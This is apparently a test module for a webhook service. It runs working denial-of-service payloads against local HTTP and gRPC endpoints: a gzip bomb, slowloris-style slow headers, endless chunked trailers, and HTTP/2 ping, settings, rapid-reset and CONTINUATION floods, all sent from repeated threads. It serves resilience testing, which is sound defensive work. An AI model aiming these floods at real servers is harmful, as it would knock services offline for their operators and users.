"""What anybody may send who has no secret, again and again, from one address of its own.

python -m tests.webhooks.attacks http://127.0.0.1:8090 http://127.0.0.1:4317 --seconds 10
    [--only endless_trailers]
"""

import argparse
import contextlib
import gzip
import socket
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from urllib.parse import urlsplit

from hpack import Encoder

from flows.webhooks.settings import MIB
from tests.webhooks.harness import github_headers, hub_signature, token_headers

GITHUB = "/webhook/github"
ENEMY = "127.0.0.66"
UNKNOWN = "a secret that nobody knows"


def gzip_bomb(mebibytes: int) -> bytes:
    """That many MiB of zeros in a thousandth; of them only the first is packed by zlib."""
    zeros = bytes(MIB)
    packing = zlib.compressobj(9, wbits=-15)
    one = packing.compress(zeros) + packing.flush(zlib.Z_FULL_FLUSH)
    checksum = 0
    for _ in range(mebibytes):
        checksum = zlib.crc32(zeros, checksum)
    begin = b"\x1f\x8b\x08" + bytes(6) + b"\xff"
    end = checksum.to_bytes(4, "little") + (mebibytes * MIB % 2**32).to_bytes(4, "little")
    return begin + one * mebibytes + packing.flush() + end


def connect(url: str, address: str) -> socket.socket:
    parts = urlsplit(url)
    to = (parts.hostname or "", parts.port or 0)
    return socket.create_connection(to, timeout=10, source_address=(address, 0))


def head(path: str, headers: dict[str, str], *more: str) -> bytes:
    lines = [f"POST {path} HTTP/1.1", "Host: x", *(f"{k}: {v}" for k, v in headers.items()), *more]
    return "\r\n".join([*lines, "", ""]).encode()


def unsigned() -> dict[str, str]:
    return github_headers(b"{}") | {"X-Hub-Signature-256": hub_signature(b"{}", UNKNOWN)}


def endless_trailers() -> Iterator[bytes]:
    yield head(GITHUB, unsigned(), "Transfer-Encoding: chunked") + b"0\r\n"
    while True:
        yield (b"a: " + b"b" * 1000 + b"\r\n") * 60


def endless_extensions() -> Iterator[bytes]:
    yield head(GITHUB, unsigned(), "Transfer-Encoding: chunked") + b"1"
    while True:
        yield b";" + b"a" * 60_000


def tiny_chunks(size: int = 1) -> Iterator[bytes]:
    yield head(GITHUB, unsigned(), "Transfer-Encoding: chunked")
    chunk = b"%x\r\n" % size + b" " * size + b"\r\n"
    while True:
        yield chunk * 6_000


def small_chunks() -> Iterator[bytes]:
    yield from tiny_chunks(6)


def a_held_body() -> Iterator[bytes]:
    yield head(GITHUB, unsigned(), f"Content-Length: {25 * MIB}")
    for _ in range(24):
        yield b" " * MIB
    while True:
        time.sleep(0.5)
        yield b" "


def a_whole_body_of_another_signature() -> Iterator[bytes]:
    yield head(GITHUB, unsigned(), f"Content-Length: {25 * MIB}") + b" " * (25 * MIB)


def empty_members() -> Iterator[bytes]:
    headers = token_headers(UNKNOWN, **{"Content-Encoding": "gzip"})
    many = gzip.compress(b"") * 100_000
    yield head("/v1/metrics", headers, f"Content-Length: {len(many)}") + many


def a_length_of_zeros() -> Iterator[bytes]:
    yield head(GITHUB, unsigned(), f"Content-Length: {'0' * 5000}2") + b"{}"


def an_offer() -> Iterator[bytes]:
    offer = ("Connection: Upgrade", "Upgrade: h2c", "Content-Length: 3")
    yield head(GITHUB, unsigned(), *offer) + b"{ }"


def slow_headers() -> Iterator[bytes]:
    for letter in head(GITHUB, unsigned()):
        time.sleep(0.1)
        yield bytes([letter])


def requests_ahead() -> Iterator[bytes]:
    while True:
        yield b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n" * 1_000


EXPORT = "/opentelemetry.proto.collector.metrics.v1.MetricsService/Export"


def frame(kind: int, stream: int = 0, body: bytes = b"", flags: int = 0) -> bytes:
    return len(body).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + body


def begun() -> bytes:
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4)


def calls(behind: bytes, count: int) -> Iterator[bytes]:
    """Calls without a token, each with these frames behind it, of which the stream is left out."""
    yield begun()
    encoder, stream = Encoder(), 1
    while True:
        pieces = []
        for _ in range(count):
            headers = encoder.encode(
                [
                    (":method", "POST"), (":scheme", "http"), (":path", EXPORT),
                    (":authority", "x"), ("te", "trailers"), ("content-type", "application/grpc"),
                ]
            )  # fmt: skip
            named = behind.replace(b"STRM", stream.to_bytes(4, "big"))
            pieces += [frame(1, stream, headers, flags=4), named]
            stream += 2
        yield b"".join(pieces)


def endless(kind: int, body: bytes) -> Iterator[bytes]:
    yield begun()
    while True:
        yield frame(kind, body=body) * 3_000


def pings() -> Iterator[bytes]:
    return endless(6, b"12345678")


def settings_again() -> Iterator[bytes]:
    return endless(4, b"")


def windows() -> Iterator[bytes]:
    return endless(8, b"\0\0\0\1")


def resets() -> Iterator[bytes]:
    return calls(b"\0\0\4\3\0STRM\0\0\0\x08", 200)


def empty_messages_without_end() -> Iterator[bytes]:
    return calls(b"\0\0\0\0\0STRM" * 1_000, 2)


def calls_that_send_nothing() -> Iterator[bytes]:
    return calls(b"", 100)


def messages_of_nobody() -> Iterator[bytes]:
    return calls(b"\0\x40\0\0\0STRM" + bytes(0x4000), 1)


def headers_without_end() -> Iterator[bytes]:
    yield begun() + frame(1, 1, b"\x83")
    while True:
        yield frame(9, 1) * 3_000


RPC_ATTACKS = (
    pings,
    settings_again,
    windows,
    resets,
    empty_messages_without_end,
    calls_that_send_nothing,
    messages_of_nobody,
    headers_without_end,
)
ATTACKS: list[tuple[Callable[[], Iterator[bytes]], int]] = [
    (endless_trailers, 2),
    (endless_extensions, 2),
    (tiny_chunks, 1),
    (small_chunks, 1),
    (a_held_body, 6),
    (a_whole_body_of_another_signature, 1),
    (empty_members, 1),
    (a_length_of_zeros, 1),
    (an_offer, 1),
    (slow_headers, 4),
    (requests_ahead, 1),
]


def attack(url: str, pieces: Callable[[], Iterator[bytes]], is_over: threading.Event) -> None:
    """Try it again and again; what is answered or cut off does not matter here."""
    while not is_over.is_set():
        with contextlib.suppress(OSError), connect(url, ENEMY) as stream:
            for piece in pieces():
                if is_over.is_set():
                    return
                stream.sendall(piece)
            stream.recv(65536)
        time.sleep(0.02)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("url")
    parser.add_argument("grpc_url")
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--only", action="append", help="name of an attack; all by default")
    options = parser.parse_args()
    is_over = threading.Event()
    enemies = [
        threading.Thread(target=attack, args=(url, pieces, is_over))
        for url, attacks in (
            (options.url, ATTACKS),
            (options.grpc_url, [(pieces, 1) for pieces in RPC_ATTACKS]),
        )
        for pieces, count in attacks
        if options.only is None or pieces.__name__ in options.only
        for _ in range(count)
    ]
    for each in enemies:
        each.start()
    is_over.wait(options.seconds)
    is_over.set()
    for each in enemies:
        each.join()


if __name__ == "__main__":
    main()
